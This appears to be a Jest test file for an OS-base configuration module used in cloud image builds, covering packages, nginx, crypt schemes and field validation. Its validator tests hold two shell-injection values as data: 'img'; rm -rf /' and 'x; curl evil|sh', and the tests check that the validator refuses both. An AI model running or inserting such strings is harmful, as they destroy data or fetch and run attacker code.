import { CryptScheme, OsBase, OsBaseSpec, PackageManager, compareVersions, cryptSchemePrefix } from '../../lib/image/os-base';

describe('OsBase', () => {
  // What the image build and the deploy script expect of each base: one row per base, so a failure names it.
  test.each([
    {
      base: OsBase.ALIBABA_CLOUD_LINUX_3, key: 'alinux3', osRelease: 'alinux 3', pm: PackageManager.DNF,
      source: '{{oos:aliyun/services/computenest/images/aliyun_3_2104_docker_26_gpu_cuda_12_4_60g}}',
      packages: 'nginx httpd-tools git curl openssl python3.11 python3.11-pip policycoreutils policycoreutils-python-utils ca-certificates tar',
      driverPackages: '', minDriver: '550.54.14', cuda: '12.4',
      nginxUser: 'nginx', confDir: '/etc/nginx/conf.d', python: '/usr/bin/python3.11', fromSource: false,
      openssl: '/usr/bin/openssl', selinux: true, crypt: 'sha512-crypt', htpasswd: CryptScheme.SHA512_CRYPT,
      bash: '4.4', curl: '7.61.1', systemd: 239, legacy: false,
    },
    {
      base: OsBase.UBUNTU_22_04, key: 'ubuntu2204', osRelease: 'ubuntu 22.04', pm: PackageManager.APT,
      source: 'ubuntu_22_04_x64_20G_alibase_20240926.vhd',
      packages: 'nginx apache2-utils git curl openssl python3 python3-venv ca-certificates',
      driverPackages: 'nvidia-driver-550-server nvidia-utils-550-server', minDriver: '550.54.14', cuda: '12.4',
      nginxUser: 'www-data', confDir: '/etc/nginx/conf.d', python: '/usr/bin/python3', fromSource: false,
      openssl: '/usr/bin/openssl', selinux: false, crypt: 'sha512-crypt bcrypt yescrypt', htpasswd: CryptScheme.BCRYPT,
      bash: '5.1', curl: '7.81.0', systemd: 249, legacy: false,
    },
    {
      base: OsBase.CENTOS_7, key: 'centos7', osRelease: 'centos 7', pm: PackageManager.YUM,
      source: '{{oos:aliyun/services/computenest/images/centos_7_6_gpu_base}}',
      packages: 'nginx httpd-tools git curl openssl policycoreutils policycoreutils-python ca-certificates tar gcc make perl '
        + 'zlib-devel bzip2-devel libffi-devel xz-devel sqlite-devel',
      driverPackages: '', minDriver: '450.80.02', cuda: '11.7',
      nginxUser: 'nginx', confDir: '/etc/nginx/conf.d', python: '/usr/local/python3/bin/python3', fromSource: true,
      openssl: '/usr/local/openssl/bin/openssl', selinux: true, crypt: 'sha512-crypt', htpasswd: CryptScheme.SHA512_CRYPT,
      bash: '4.2', curl: '7.29.0', systemd: 219, legacy: true,
    },
  ])('$key: image, packages, nginx, python, openssl, crypt and tools', (row) => {
    const b = row.base;
    expect(b.key).toBe(row.key);
    expect(OsBase.fromKey(row.key)).toBe(b);
    expect(`${b.osReleaseId} ${b.osReleaseVersionId}`).toBe(row.osRelease);
    expect(b.packageManager).toBe(row.pm);
    expect(b.sourceImageId).toBe(row.source);
    expect(OsBase.fromSourceImageId(row.source)).toBe(b);
    expect(b.systemPackages.join(' ')).toBe(row.packages);
    expect(b.gpu.packages.join(' ')).toBe(row.driverPackages);
    expect(b.gpu.minDriverVersion).toBe(row.minDriver);
    expect(b.gpu.cudaVersion).toBe(row.cuda);
    expect(b.nginx.user).toBe(row.nginxUser);
    expect(b.nginx.confDir).toBe(row.confDir);
    expect(b.nginx.mainConf).toBe('/etc/nginx/nginx.conf');
    expect(b.pythonCommand).toBe(row.python);
    expect(b.buildsPythonFromSource).toBe(row.fromSource);
    expect(b.opensslPath).toBe(row.openssl);
    expect(b.selinux).toBe(row.selinux);
    expect(b.cryptSchemes.join(' ')).toBe(row.crypt);
    expect(b.htpasswdScheme).toBe(row.htpasswd);
    expect(b.verifiesCrypt(CryptScheme.SHA512_CRYPT)).toBe(true);
    expect([b.tools.bash, b.tools.curl, b.tools.systemd]).toEqual([row.bash, row.curl, row.systemd]);
    expect(b.legacy).toBe(row.legacy);
    expect(b.sources.length).toBeGreaterThan(0);
  });

  test('ALL lists the supported bases first, the default first, then the legacy one', () => {
    expect(OsBase.ALL.map((b) => b.key)).toEqual(['alinux3', 'ubuntu2204', 'centos7']);
    expect(OsBase.DEFAULT).toBe(OsBase.ALIBABA_CLOUD_LINUX_3);
    expect(OsBase.ALL.filter((b) => b.legacy)).toEqual([OsBase.CENTOS_7]);
    expect(OsBase.CENTOS_7.endOfLife).toBe('2024-06-30');
  });

  test('oldestTools: what a script running on every base may rely on (CentOS 7 sets the floor)', () => {
    expect(OsBase.oldestTools(OsBase.ALL)).toEqual({ bash: '4.2', curl: '7.29.0', systemd: 219 });
    expect(OsBase.oldestTools([OsBase.UBUNTU_22_04, OsBase.ALIBABA_CLOUD_LINUX_3])).toEqual({ bash: '4.4', curl: '7.61.1', systemd: 239 });
    expect(() => OsBase.oldestTools([])).toThrow('OsBase.oldestTools: bases is empty; give at least one base.');
  });

  test('assertVerifiesCrypt refuses a scheme the base\'s crypt() lacks (bcrypt on CentOS 7 and Alibaba Cloud Linux 3)', () => {
    expect(() => OsBase.CENTOS_7.assertVerifiesCrypt('QwenChatStack', 'passwordHash', CryptScheme.BCRYPT)).toThrow(
      "QwenChatStack: prop 'passwordHash' 'bcrypt' is not allowed on CentOS 7: its crypt() verifies only sha512-crypt, "
      + "so nginx would answer 500 to every login. Use 'sha512-crypt' or another base.");
    expect(() => OsBase.ALIBABA_CLOUD_LINUX_3.assertVerifiesCrypt('X', 'p', CryptScheme.YESCRYPT)).toThrow(/'yescrypt' is not allowed on Alibaba Cloud Linux 3/);
    expect(() => OsBase.UBUNTU_22_04.assertVerifiesCrypt('X', 'p', CryptScheme.BCRYPT)).not.toThrow();
  });

  test('cryptSchemePrefix', () => {
    expect([CryptScheme.SHA512_CRYPT, CryptScheme.BCRYPT, CryptScheme.YESCRYPT].map(cryptSchemePrefix)).toEqual(['$6$', '$2y$', '$y$']);
  });

  test('warnIfLegacy: the legacy base warns with its end-of-life date, once per owner on stderr', () => {
    const warnings: string[] = [];
    const scope = { node: { addWarning: (m: string) => warnings.push(m) } };
    const write = jest.spyOn(process.stderr, 'write').mockImplementation(() => true);
    try {
      const message = OsBase.CENTOS_7.warnIfLegacy('os-base.test owner', scope);
      OsBase.CENTOS_7.warnIfLegacy('os-base.test owner', scope);
      expect(message).toMatch(/^os-base.test owner: CentOS 7 reached its end of life on 2024-06-30: no security fixes/);
      expect(warnings).toEqual([message, message]);
      expect(write.mock.calls.map((c) => String(c[0]))).toEqual([`[WARNING] ${message}\n`]);
      expect(OsBase.ALIBABA_CLOUD_LINUX_3.warnIfLegacy('os-base.test owner', scope)).toBeUndefined();
      expect(OsBase.UBUNTU_22_04.warnIfLegacy('os-base.test owner', scope)).toBeUndefined();
      expect(warnings).toHaveLength(2);
    } finally {
      write.mockRestore();
    }
  });

  describe('OsBase.of validates every field', () => {
    const spec = (over: Partial<OsBaseSpec>): OsBaseSpec => ({
      key: 'rocky9', displayName: 'Rocky Linux 9', osReleaseId: 'rocky', osReleaseVersionId: '9',
      sourceImageId: 'rockylinux_9_4_x64_20G_alibase_20240101.vhd', packageManager: PackageManager.DNF,
      packages: { nginx: 'nginx', htpasswd: 'httpd-tools', git: 'git', curl: 'curl', openssl: 'openssl', python: ['python3'], selinuxTools: [], extra: [] },
      gpu: { driverVersion: '550', cudaVersion: '12.4', minDriverVersion: '550.54.14', packages: [] },
      nginx: { user: 'nginx', confDir: '/etc/nginx/conf.d', mainConf: '/etc/nginx/nginx.conf', version: '1.20.1' },
      pythonCommand: '/usr/bin/python3', pythonVersion: '3.9', opensslPath: '/usr/bin/openssl', selinux: true,
      cryptSchemes: [CryptScheme.SHA512_CRYPT, CryptScheme.YESCRYPT], htpasswdScheme: CryptScheme.SHA512_CRYPT,
      tools: { bash: '5.1', curl: '7.76.1', systemd: 252, glibc: '2.34', kernel: '5.14', openssl: '3.0.7', libxcrypt: '4.4.18' },
      sources: ['example'],
      ...over,
    });

    test('a valid custom base', () => {
      const b = OsBase.of(spec({}));
      expect(b.key).toBe('rocky9');
      expect(b.legacy).toBe(false);
      expect(OsBase.fromKey('rocky9')).toBeUndefined();
    });

    test.each([
      [{ key: 'Rocky 9' }, "OsBase.of: prop 'key' \"Rocky 9\" is not allowed: give lower-case letters and digits starting with a letter, e.g. 'alinux3'."],
      [{ sourceImageId: "img'; rm -rf /" }, "OsBase.of: prop 'sourceImageId' \"img'; rm -rf /\" is not allowed: give an image id or '{{oos:<public parameter name>}}'."],
      [{ packageManager: 'zypper' as PackageManager }, "OsBase.of: prop 'packageManager' \"zypper\" is not allowed: give one of dnf, yum, apt."],
      [{ nginx: { user: 'root;', confDir: '/etc/nginx/conf.d', mainConf: '/etc/nginx/nginx.conf', version: '1' } }, "OsBase.of: prop 'nginx.user' \"root;\" is not allowed: give a user name such as 'nginx'."],
      [{ pythonCommand: 'python3' }, "OsBase.of: prop 'pythonCommand' \"python3\" is not allowed: give an absolute path."],
      [{ htpasswdScheme: CryptScheme.BCRYPT }, "OsBase.of: prop 'htpasswdScheme' \"bcrypt\" is not allowed: give one of the base's cryptSchemes (sha512-crypt, yescrypt)."],
      [{ htpasswdScheme: CryptScheme.YESCRYPT }, "OsBase.of: prop 'htpasswdScheme' \"yescrypt\" is not allowed: give sha512-crypt or bcrypt: no tool of the deploy script makes yescrypt hashes."],
      [{ cryptSchemes: [] }, "OsBase.of: prop 'cryptSchemes' [] is not allowed: give a non-empty list of sha512-crypt, bcrypt, yescrypt."],
      [{ endOfLife: '30/06/2024' }, "OsBase.of: prop 'endOfLife' \"30/06/2024\" is not allowed: give a date 'YYYY-MM-DD'."],
      [{ sources: [] }, "OsBase.of: prop 'sources' [] is not allowed: cite where the facts come from."],
    ] as Array<[Partial<OsBaseSpec>, string]>)('%j', (over, message) => {
      expect(() => OsBase.of(spec(over))).toThrow(message);
    });

    test('a package name that could inject shell is refused', () => {
      const packages = { ...spec({}).packages, python: ['python3', 'x; curl evil|sh'] };
      expect(() => OsBase.of(spec({ packages }))).toThrow("OsBase.of: prop 'packages.python[1]' \"x; curl evil|sh\" is not allowed: give a distribution package name.");
    });
  });

  test('compareVersions orders dotted versions numerically', () => {
    expect(compareVersions('550.54.14', '550.163.01')).toBeLessThan(0);
    expect(compareVersions('4.2', '4.10')).toBeLessThan(0);
    expect(compareVersions('7.29.0', '7.29')).toBe(0);
    expect(compareVersions('12.4', '11.7')).toBeGreaterThan(0);
  });
});
